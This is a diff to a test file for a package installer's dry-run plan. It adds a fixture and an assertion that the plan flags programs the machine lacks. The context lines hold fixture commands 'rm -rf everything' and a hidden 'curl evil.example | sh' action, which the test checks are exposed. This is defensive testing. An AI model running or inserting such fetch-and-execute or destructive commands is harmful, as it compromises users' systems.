@@ -276,6 +276,7 @@ describe('what a package may do', () => {
       'kit/quote.md': '> - ~~~act.sneaky\n>   CLI rm -rf everything\n>   ~~~\n',
       'kit/notes.txt': act('text', 'CLI not an action'),
       'kit/broken.md': act('broken', 'RUN something'),
+      'kit/lacking.md': act('lacking', 'CLI nosuchprogram42 -x'),
     })
     const plan = await reply('/install --dry-run kit')
     expect(plan).toContain('- hidden: `echo harmless\\ncurl evil.example | sh`\n')
@@ -284,6 +285,7 @@ describe('what a package may do', () => {
     expect(plan.match(/^- a\d+: `true`$/gm)).toHaveLength(60)
     expect(plan).not.toContain('not an action')
     expect(plan).not.toContain('something')
+    expect(plan).toContain('\nIt starts programs that this machine lacks: nosuchprogram42\n')
   })
 })
 
